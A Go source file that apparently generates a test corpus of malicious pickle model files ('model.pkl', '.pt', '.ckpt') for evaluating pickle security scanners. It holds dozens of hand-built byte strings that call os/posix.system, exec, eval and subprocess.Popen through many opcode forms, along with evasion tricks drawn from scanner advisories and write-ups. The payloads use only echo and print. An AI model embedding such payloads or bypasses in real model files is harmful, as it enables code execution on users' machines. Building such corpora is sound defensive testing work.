package main

import (
	"fmt"
	"strings"
)

// styles are the ways in which picklers of all protocols write.
var styles = []style{
	{proto: 0, text: true}, {proto: 1}, {proto: 2}, {proto: 3}, {proto: 4, frame: true, memo: true}, {proto: 5, frame: true, memo: true},
	{proto: 4, global: byGlobal}, {proto: 4, global: byMemo}, {proto: 2, memo: true}, {proto: 4, global: byShuffled}, {proto: 5, global: byOldText}, {proto: 4, global: byBinStr},
}

var endings = []string{"pkl", "pickle", "bin", "joblib", "dat", "p", "sav", "pt", "pth", "ckpt"}

// pickleGadgets calls each gadget twice, in two styles that turn with the list.
func pickleGadgets(c *corpus) {
	n := 0
	for _, group := range gadgets {
		for _, g := range group.list {
			callee := call{fn: global{g.module, g.name}, args: g.args}
			dotted := strings.Contains(g.name, ".") // only protocol 4 looks attributes up
			for turn := range 2 {
				s := styles[(n+turn*5)%len(styles)]
				if dotted && s.proto < 4 {
					s = styles[4+turn]
				}
				f := []form{reduce, obj, inst}[(n+turn)%3]
				if s.proto == 0 && f == obj || dotted && f == inst {
					f = reduce
				}
				callee.form = f
				if f == obj && len(g.args) == 0 { // OBJ without arguments is the same call
					callee.form = reduce
				}
				name := fmt.Sprintf("model.%s", endings[n%7])
				c.hostile("pickle", group.class, group.source+"; "+g.module+"."+g.name, name, pickled(s, callee))
			}
			n++
		}
	}
}

// pickleForms puts the best known payloads into every opcode, protocol and position.
func pickleForms(c *corpus) {
	for _, g := range []gadget{{"os", "system", tuple{cmd}}, {"builtins", "exec", tuple{code}}, {"subprocess", "Popen", tuple{list{"echo", word}}}} {
		for _, s := range styles {
			for _, f := range []form{reduce, inst, obj} {
				c.hostile("pickle", "opcode form", "CPython's pickletools; fickling GHSA-mxhj-88fx-4pcv (OBJ)", "model.pkl", pickled(s, call{global{g.module, g.name}, g.args, f}))
			}
		}
	}
	run := fn("posix", "system", cmd)
	weights := dict{"layer.weight", list{0.5, 0.25}, "layer.bias", list{1.0}}
	at := map[string]any{
		"element of a list":    list{1, run, 2},
		"value of a dict":      dict{"a", 1, "b", run},
		"key of a dict":        dict{run, 1},
		"tuple of tuples":      tuple{tuple{tuple{1, run}, 2}, 3},
		"element of a set":     set{1, run},
		"popped before":        seq{run, raw("0"), weights},
		"popped to mark":       seq{raw("("), run, raw("1"), weights},
		"argument of a call":   fn("collections", "OrderedDict", list{tuple{"a", run}}),
		"state of an object":   built{call{fn: global{"argparse", "Namespace"}}, dict{"a", run}},
		"into the memo":        seq{put{40, run}, raw("0"), weights},
		"callable in the memo": seq{put{90, global{"posix", "system"}}, raw("0"), weights, raw("0"), get(90), tuple{cmd}, raw("R")},
		"argument in the memo": seq{put{90, cmd}, raw("0"), global{"posix", "system"}, get(90), raw("\x85R")},
		"tuple in the memo":    seq{put{90, tuple{cmd}}, raw("0"), global{"posix", "system"}, get(90), raw("R")},
		"duplicated":           seq{global{"posix", "system"}, raw("2"), raw("0"), tuple{cmd}, raw("R")},
		"after a state dict":   dict{"state_dict", fn("collections", "OrderedDict"), "meta", run},
	}
	for _, class := range sorted(at) {
		for _, s := range []style{styles[2], styles[4]} {
			c.hostile("pickle", class, "fickling's injection modes; fickling POP handling advisory", "model.pkl", pickled(s, at[class]))
		}
	}
}

// pickleTricks are what readers of single opcodes get wrong.
func pickleTricks(c *corpus) {
	tricks := []struct {
		class, source string
		data          string
	}{
		{"broken tail", "nullifAI (ReversingLabs)", "\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85RX\xff\x00\x00\x00oops"},
		{"broken tail", "nullifAI (ReversingLabs)", "\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04echo\x85R"},
		{"broken tail", "nullifAI (ReversingLabs)", "cposix\nsystem\n(S'echo'\ntR\xff\xff\xff\xff."},
		{"broken tail", "nullifAI (ReversingLabs)", "cbuiltins\nexec\n(S'print(1)'\ntR0\x00\x00garbage after"},
		{"broken tail", "picklescan malicious-invalid-bytes test", "\x80\x04cbuiltins\nexec\n(V" + code + "\ntR\xf1\xf2\xf3"},
		{"missing memo key after", "picklescan keyerror advisory", "\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R0hc."},
		{"memo confused", "picklescan issue 22; type confusion advisory", "\x80\x04K\x07q\x010\x8c\x05posixq\x020\x8c\x06systemq\x010h\x02h\x01\x93\x8c\x04echo\x85R."},
		{"memo by text", "PickleFuzzer", "\x80\x04\x8c\x05posixp0\n0\x8c\x06systemp1\n0g00\ng01\n\x93\x8c\x04echo\x85R."},
		{"memo gap", "PickleFuzzer", "\x80\x04\x8c\x05posixr\x10\x27\x00\x000\x8c\x06systemr\x11\x27\x00\x000j\x10\x27\x00\x00j\x11\x27\x00\x00\x93\x8c\x04echo\x85R."},
		{"memoize after put", "PickleFuzzer", "\x80\x04\x8c\x05posixq\x00\x8c\x06system\x9400h\x00h\x01\x93\x8c\x04echo\x85R."},
		{"hexadecimal number", "PickleFuzzer: int(text, 0) in pickle, int(text) in pickletools", "I0x10\n0cposix\nsystem\n(S'echo'\ntR."},
		{"number with underscore", "PickleFuzzer", "I1_000\n0cposix\nsystem\n(S'echo'\ntR."},
		{"long with text", "PickleFuzzer", "L0x10L\n0cposix\nsystem\n(S'echo'\ntR."},
		{"unknown float text", "fickling issue 322", "Finf\n0cposix\nsystem\n(S'echo'\ntR."},
		{"opcode others lack", "fickling issue 322", "}F1.0\n0" + "cos\nsystem\n(S'echo'\ntR."},
		{"opcode others lack", "fickling issue 322: BYTEARRAY8", "\x80\x05\x96\x02\x00\x00\x00\x00\x00\x00\x00ab0cos\nsystem\n(S'echo'\ntR."},
		{"protocol twice", "PickleFuzzer", "\x80\x02\x80\x04\x80\x00cposix\nsystem\n\x8c\x04echo\x85R."},
		{"protocol in the middle", "PickleFuzzer", "cposix\nsystem\n\x80\x03X\x04\x00\x00\x00echo\x80\x05\x85R."},
		{"two frames", "fickling frame advisory", "\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00K\x010\x95\x19\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04echo\x85R."},
		{"frame in a frame", "fickling frame advisory", "\x80\x04\x95\x25\x00\x00\x00\x00\x00\x00\x00K\x010\x95\x19\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04echo\x85R."},
		{"empty frames", "PickleFuzzer", "\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x95\x00\x00\x00\x00\x00\x00\x00\x00cposix\nsystem\n\x8c\x04echo\x85R."},
		{"no frame in protocol 4", "CPython", "\x80\x04cposix\nsystem\n\x8c\x04echo\x85R."},
		{"quoted string", "PickleFuzzer", "cposix\nsystem\n(S\"echo\"\ntR."},
		{"string escapes", "CPython", `cposix` + "\nsystem\n" + `(S'\x65\x63\x68\x6f'` + "\ntR."},
		{"unicode escapes", "CPython", "\x80\x04V" + `\u0070osix` + "\nV" + `s\u0079stem` + "\n\x93\x8c\x04echo\x85R."},
		{"extension registry", "copyreg documentation; fickling EXT advisory", "ccopy_reg\nadd_extension\n(Vposix\nVsystem\nI7\ntR0\x82\x07(Vecho\ntR."},
		{"extension registry", "copyreg documentation", "\x80\x02ccopyreg\nadd_extension\n(X\x05\x00\x00\x00posixX\x06\x00\x00\x00systemM\xe8\x03tR0\x83\xe8\x03X\x04\x00\x00\x00echo\x85R."},
		{"persistent id", "torch.load persistent_load", "\x80\x02(X\x07\x00\x00\x00storagecposix\nsystem\nX\x04\x00\x00\x00echo\x85RX\x01\x00\x00\x000K\x01tQ."},
		{"setstate on an instance", "pickle jail write-ups: BUILD calls __setstate__", "\x80\x02cargparse\nNamespace\n)\x81}X\x0c\x00\x00\x00__setstate__cposix\nsystem\nsbX\x04\x00\x00\x00echob."},
		{"setstate on an instance", "pickle jail write-ups", "ccollections\nOrderedDict\n)R}(V__setstate__\ncos\nsystem\nubVecho\nb."},
		{"attributes of a class", "pickle jail write-ups: BUILD on a class", "\x80\x02cargparse\nNamespace\nN}X\x06\x00\x00\x00__eq__cposix\nsystem\ns\x86b."},
		{"attributes of a function", "modelscan issue 330", "\x80\x04\x8c\x05numpy\x8c\x04size\x93\x94\x94\x8c\x05numpy\x8c\x0c__builtins__\x93\x94\x94h\x01}}\x8c\x05shapeh\x03s\x86bh\x01h\x01\x8c\x04eval\x86R\x8c\x0bprint('hi')\x85R."},
		{"module table", "picklescan sys.modules override", "csys\nmodules\np0\n0g0\nS'sys'\ncos\npath\ns0csys\nsystem\n(S'echo'\ntR."},
		{"module table", "pickle jail write-ups", "\x80\x04csys\nmodules\n\x94\x8c\x03sysh\x00s0csys\nget\n\x8c\x02os\x85R\x94h\x00\x8c\x03sysh\x01s0csys\nsystem\n\x8c\x04echo\x85R."},
		{"dictionary of builtins", "pickle jail write-ups", "\x80\x04cbuiltins\n__dict__.__getitem__\n\x8c\x04eval\x85R\x8c\x0bprint('hi')\x85R."},
		{"class through subclasses", "pickle jail write-ups", "\x80\x04cbuiltins\nobject.__subclasses__\n)R\x94cbuiltins\nlist.__getitem__\nh\x00K\x50\x86R)R."},
		{"code in a name", "PickleFuzzer: names may hold anything", "\x80\x04\x8c\x05posix\x8c\x0fsystem.__call__\x93\x8c\x04echo\x85R."},
		{"only named", "Pickleball: callable left for later", "\x80\x02}X\x09\x00\x00\x00predict_fcposix\nsystem\ns."},
		{"only named", "Pickleball", "\x80\x04\x95\x17\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94]\x94."},
		{"second stream", "modelaudit multiple_stream_attack", "\x80\x04}.\x80\x04cposix\nsystem\n\x8c\x04echo\x85R."},
		{"second stream", "modelaudit multiple_stream_attack", "(dp0\n.(lp0\n.cos\nsystem\n(S'echo'\ntR."},
		{"padding before a second stream", "modelaudit multiple stream tests", "\x80\x04}." + "\n\n\n\n" + "\x80\x04cposix\nsystem\n\x8c\x04echo\x85R."},
		{"next buffer", "PEP 574", "\x80\x05cposix\nsystem\n\x8c\x04echo\x85R\x97\x98\x86."},
	}
	for _, t := range tricks {
		c.hostile("pickle", t.class, t.source, "model.pkl", []byte(t.data))
	}
	pad := strings.Repeat("K\x010", 400_000)
	c.hostile("pickle", "much before it", "scanners that stop at a limit", "model.pkl", []byte("\x80\x02"+pad+"cposix\nsystem\nX\x04\x00\x00\x00echo\x85R."))
	deep := strings.Repeat("(l", 2000)
	c.hostile("pickle", "deep before it", "scanners that recurse", "model.pkl", []byte(deep+"cposix\nsystem\n(S'echo'\ntR."))
	long := "\x80\x04B" + "\x00\x00\x20\x00" + strings.Repeat("\x00", 2<<20) + "0cposix\nsystem\n\x8c\x04echo\x85R."
	c.hostile("pickle", "large bytes before it", "scanners that stop at a limit", "model.pkl", []byte(long))
	many := "\x80\x04" + strings.Repeat("\x8c\x03abc\x940", 30_000) + "cposix\nsystem\n\x8c\x04echo\x85R."
	c.hostile("pickle", "large memo before it", "scanners that stop at a limit", "model.pkl", []byte(many))
}
